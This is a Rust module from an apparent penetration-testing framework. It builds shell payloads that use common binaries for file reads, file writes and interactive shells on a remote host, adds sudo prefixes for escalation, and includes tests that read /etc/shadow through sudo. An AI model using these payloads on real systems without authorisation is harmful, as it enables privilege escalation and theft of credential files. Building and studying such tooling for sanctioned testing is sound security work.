//! Payload synthesis for coercing common binaries into file-read,
//! file-write and shell capabilities.
//!
//! The platform uses this when it needs a primitive the remote host does not
//! expose directly: `open()` picks a reader/writer method here, `popen()`
//! with escalation picks a shell method. Each method produces a
//! `(payload, stdin, exit_cmd)` triple; the payload is a shell command, the
//! stdin bytes bootstrap it, and the exit command terminates a
//! stdin-consuming payload cleanly.

use redcat_internal::error::Error;

use crate::util;

/// Capability bitmask of a method.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Capability(u8);

impl Capability {
    pub const READ: Capability = Capability(1);
    pub const WRITE: Capability = Capability(2);
    pub const SHELL: Capability = Capability(4);
    pub const ALL: Capability = Capability(7);

    pub fn contains(&self, other: Capability) -> bool {
        self.0 & other.0 == other.0
    }

    pub fn intersects(&self, other: Capability) -> bool {
        self.0 & other.0 != 0
    }
}

impl std::ops::BitOr for Capability {
    type Output = Capability;
    fn bitor(self, rhs: Capability) -> Capability {
        Capability(self.0 | rhs.0)
    }
}

/// How a method moves data across the channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stream {
    /// Unencoded bytes. Writing requires a known length.
    Raw,
    /// Printable data only.
    Print,
    /// Hex-encoded data.
    Hex,
    /// Base64-encoded data.
    Base64,
}

/// A set of acceptable streams for an `iter_*` query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StreamSet(u8);

impl StreamSet {
    pub const RAW: StreamSet = StreamSet(1);
    pub const PRINT: StreamSet = StreamSet(2);
    pub const HEX: StreamSet = StreamSet(4);
    pub const BASE64: StreamSet = StreamSet(8);
    pub const ANY: StreamSet = StreamSet(15);

    pub fn matches(&self, stream: Stream) -> bool {
        let bit = match stream {
            Stream::Raw => 1,
            Stream::Print => 2,
            Stream::Hex => 4,
            Stream::Base64 => 8,
        };
        self.0 & bit != 0
    }
}

impl std::ops::BitOr for StreamSet {
    type Output = StreamSet;
    fn bitor(self, rhs: StreamSet) -> StreamSet {
        StreamSet(self.0 | rhs.0)
    }
}

/// One known recipe: a binary plus the command shape realizing a capability.
#[derive(Debug)]
pub struct MethodSpec {
    pub binary: &'static str,
    pub cap: Capability,
    pub stream: Stream,
    /// Template for the shell payload. `{path}` is the resolved binary
    /// path, `{lfile}` the target file, `{length}` the byte count.
    payload: &'static str,
    /// Template for bootstrap stdin bytes.
    input: &'static str,
    /// Bytes sent to terminate a stdin-consuming payload.
    exit: &'static str,
    /// True when the payload only works with a known data length.
    needs_length: bool,
}

/// A method bound to a concrete binary path, ready to build.
#[derive(Debug)]
pub struct MethodWrapper<'db> {
    spec: &'db MethodSpec,
    binary_path: String,
    /// Optional command prefix, e.g. `sudo -u root` for sudo-spec methods.
    prefix: Option<String>,
}

/// Parameters for building a payload.
#[derive(Debug, Default)]
pub struct BuildParams {
    /// Target file for read/write methods.
    pub lfile: String,
    /// Payload length for raw writers.
    pub length: Option<u64>,
}

/// The built `(payload, stdin, exit_cmd)` triple.
#[derive(Debug, PartialEq, Eq)]
pub struct BuiltPayload {
    pub payload: String,
    pub input: Vec<u8>,
    pub exit_cmd: Vec<u8>,
}

impl MethodWrapper<'_> {
    pub fn stream(&self) -> Stream {
        self.spec.stream
    }

    pub fn cap(&self) -> Capability {
        self.spec.cap
    }

    pub fn binary(&self) -> &str {
        self.spec.binary
    }

    pub fn build(&self, params: &BuildParams) -> Result<BuiltPayload, Error> {
        if self.spec.needs_length && params.length.is_none() {
            return Err(Error::Argument(format!(
                "{}: method requires a known length",
                self.spec.binary
            )));
        }

        let expand = |template: &str| -> String {
            template
                .replace("{path}", &self.binary_path)
                .replace("{lfile}", &util::quote(&params.lfile))
                .replace("{length}", &params.length.unwrap_or(0).to_string())
        };

        let mut payload = expand(self.spec.payload);
        if let Some(prefix) = &self.prefix {
            payload = format!("{} {}", prefix, payload);
        }

        Ok(BuiltPayload {
            payload,
            input: expand(self.spec.input).into_bytes(),
            exit_cmd: self.spec.exit.as_bytes().to_vec(),
        })
    }
}

/// The built-in method table.
///
/// This is intentionally a small, dependable subset: one method per
/// capability/stream combination that the file and process primitives rely
/// on. The full knowledge base is an external collaborator.
static METHODS: &[MethodSpec] = &[
    MethodSpec {
        binary: "cat",
        cap: Capability::READ,
        stream: Stream::Print,
        payload: "{path} {lfile}",
        input: "",
        exit: "",
        needs_length: false,
    },
    MethodSpec {
        binary: "dd",
        cap: Capability::READ,
        stream: Stream::Raw,
        payload: "{path} if={lfile} bs=4096 2>/dev/null",
        input: "",
        exit: "",
        needs_length: false,
    },
    MethodSpec {
        binary: "base64",
        cap: Capability::READ,
        stream: Stream::Base64,
        payload: "{path} -w0 {lfile}",
        input: "",
        exit: "",
        needs_length: false,
    },
    MethodSpec {
        binary: "xxd",
        cap: Capability::READ,
        stream: Stream::Hex,
        payload: "{path} -p {lfile}",
        input: "",
        exit: "",
        needs_length: false,
    },
    MethodSpec {
        binary: "dd",
        cap: Capability::WRITE,
        stream: Stream::Raw,
        payload: "{path} of={lfile} bs=1 count={length} 2>/dev/null",
        input: "",
        exit: "",
        needs_length: true,
    },
    MethodSpec {
        binary: "base64",
        cap: Capability::WRITE,
        stream: Stream::Base64,
        payload: "{path} -d > {lfile}",
        input: "",
        exit: "\x04",
        needs_length: false,
    },
    MethodSpec {
        binary: "xxd",
        cap: Capability::WRITE,
        stream: Stream::Hex,
        payload: "{path} -p -r > {lfile}",
        input: "",
        exit: "\x04",
        needs_length: false,
    },
    MethodSpec {
        binary: "tee",
        cap: Capability::WRITE,
        stream: Stream::Print,
        payload: "{path} {lfile} >/dev/null",
        input: "",
        exit: "\x04",
        needs_length: false,
    },
    MethodSpec {
        binary: "sh",
        cap: Capability::SHELL,
        stream: Stream::Raw,
        payload: "{path} -i",
        input: "",
        exit: "exit\n",
        needs_length: false,
    },
    MethodSpec {
        binary: "bash",
        cap: Capability::SHELL,
        stream: Stream::Raw,
        payload: "{path} -i",
        input: "",
        exit: "exit\n",
        needs_length: false,
    },
];

/// The synthesizer itself. Binary resolution is delegated to the caller via
/// a lookup closure so the platform's `which` cache stays authoritative.
#[derive(Debug, Default)]
pub struct GtfoDb;

impl GtfoDb {
    pub fn new() -> GtfoDb {
        GtfoDb
    }

    /// All methods matching the requested capabilities and streams, in table
    /// order, bound to binaries the lookup resolves.
    pub fn iter_methods<'db>(
        &'db self,
        caps: Capability,
        streams: StreamSet,
        mut which: impl FnMut(&str) -> Option<String>,
    ) -> Vec<MethodWrapper<'db>> {
        METHODS
            .iter()
            .filter(|m| caps.intersects(m.cap) && streams.matches(m.stream))
            .filter_map(|m| {
                which(m.binary).map(|binary_path| MethodWrapper {
                    spec: m,
                    binary_path,
                    prefix: None,
                })
            })
            .collect()
    }

    /// Methods for one specific binary path (used when a known binary is
    /// interesting, e.g. a setuid file found during enumeration).
    pub fn iter_binary<'db>(
        &'db self,
        path: &str,
        caps: Capability,
        streams: StreamSet,
    ) -> Vec<MethodWrapper<'db>> {
        let base = path.rsplit('/').next().unwrap_or(path);
        METHODS
            .iter()
            .filter(|m| m.binary == base && caps.intersects(m.cap) && streams.matches(m.stream))
            .map(|m| MethodWrapper {
                spec: m,
                binary_path: path.to_string(),
                prefix: None,
            })
            .collect()
    }

    /// Methods runnable through a sudo command specification such as
    /// `/usr/bin/base64` or `ALL`. The resulting payloads are prefixed with
    /// `sudo` (plus `-u <user>` when given).
    pub fn iter_sudo<'db>(
        &'db self,
        spec: &str,
        caps: Capability,
        user: Option<&str>,
        mut which: impl FnMut(&str) -> Option<String>,
    ) -> Vec<MethodWrapper<'db>> {
        let prefix = match user {
            Some(user) => format!("sudo -u {}", util::quote(user)),
            None => "sudo".to_string(),
        };

        if spec.trim() == "ALL" {
            return METHODS
                .iter()
                .filter(|m| caps.intersects(m.cap))
                .filter_map(|m| {
                    which(m.binary).map(|binary_path| MethodWrapper {
                        spec: m,
                        binary_path,
                        prefix: Some(prefix.clone()),
                    })
                })
                .collect();
        }

        // A concrete spec names a binary (and possibly fixed arguments).
        // Only methods for that binary apply, and the payload must run the
        // path exactly as listed in the spec.
        let path = spec.split_whitespace().next().unwrap_or(spec);
        let base = path.rsplit('/').next().unwrap_or(path);

        METHODS
            .iter()
            .filter(|m| m.binary == base && caps.intersects(m.cap))
            .map(|m| MethodWrapper {
                spec: m,
                binary_path: path.to_string(),
                prefix: Some(prefix.clone()),
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fake_which(name: &str) -> Option<String> {
        match name {
            "cat" | "base64" | "dd" | "tee" => Some(format!("/usr/bin/{}", name)),
            _ => None,
        }
    }

    #[test]
    fn read_methods_resolve_in_table_order() {
        let db = GtfoDb::new();
        let methods = db.iter_methods(
            Capability::READ,
            StreamSet::PRINT | StreamSet::RAW,
            fake_which,
        );
        assert_eq!(methods.len(), 2);
        assert_eq!(methods[0].binary(), "cat");
        assert_eq!(methods[1].binary(), "dd");
    }

    #[test]
    fn build_substitutes_and_quotes_target() {
        let db = GtfoDb::new();
        let methods = db.iter_methods(Capability::READ, StreamSet::PRINT, fake_which);
        let built = methods[0]
            .build(&BuildParams {
                lfile: "/etc/pass wd".into(),
                length: None,
            })
            .unwrap();
        assert_eq!(built.payload, "/usr/bin/cat '/etc/pass wd'");
        assert!(built.input.is_empty());
        assert!(built.exit_cmd.is_empty());
    }

    #[test]
    fn raw_writer_requires_length() {
        let db = GtfoDb::new();
        let methods = db.iter_methods(Capability::WRITE, StreamSet::RAW, fake_which);
        assert_eq!(methods[0].binary(), "dd");

        let err = methods[0]
            .build(&BuildParams {
                lfile: "/tmp/out".into(),
                length: None,
            })
            .unwrap_err();
        assert!(matches!(err, Error::Argument(_)));

        let built = methods[0]
            .build(&BuildParams {
                lfile: "/tmp/out".into(),
                length: Some(1024),
            })
            .unwrap();
        assert_eq!(built.payload, "/usr/bin/dd of=/tmp/out bs=1 count=1024 2>/dev/null");
    }

    #[test]
    fn base64_writer_has_eof_exit() {
        let db = GtfoDb::new();
        let methods = db.iter_methods(Capability::WRITE, StreamSet::BASE64, fake_which);
        let built = methods[0]
            .build(&BuildParams {
                lfile: "/tmp/blob".into(),
                length: None,
            })
            .unwrap();
        assert_eq!(built.payload, "/usr/bin/base64 -d > /tmp/blob");
        assert_eq!(built.exit_cmd, b"\x04");
    }

    #[test]
    fn sudo_all_spec_prefixes_payloads() {
        let db = GtfoDb::new();
        let methods = db.iter_sudo("ALL", Capability::READ, None, fake_which);
        assert!(!methods.is_empty());
        let built = methods[0]
            .build(&BuildParams {
                lfile: "/etc/shadow".into(),
                length: None,
            })
            .unwrap();
        assert!(built.payload.starts_with("sudo "));
    }

    #[test]
    fn sudo_binary_spec_limits_to_that_binary() {
        let db = GtfoDb::new();
        let methods = db.iter_sudo("/usr/bin/base64", Capability::ALL, Some("root"), fake_which);
        assert!(methods.iter().all(|m| m.binary() == "base64"));
        let built = methods[0]
            .build(&BuildParams {
                lfile: "/etc/shadow".into(),
                length: None,
            })
            .unwrap();
        assert!(built.payload.starts_with("sudo -u root /usr/bin/base64"));
    }

    #[test]
    fn iter_binary_matches_on_basename() {
        let db = GtfoDb::new();
        let methods = db.iter_binary("/opt/bin/cat", Capability::READ, StreamSet::ANY);
        assert_eq!(methods.len(), 1);
        let built = methods[0]
            .build(&BuildParams {
                lfile: "/etc/passwd".into(),
                length: None,
            })
            .unwrap();
        assert_eq!(built.payload, "/opt/bin/cat /etc/passwd");
    }
}
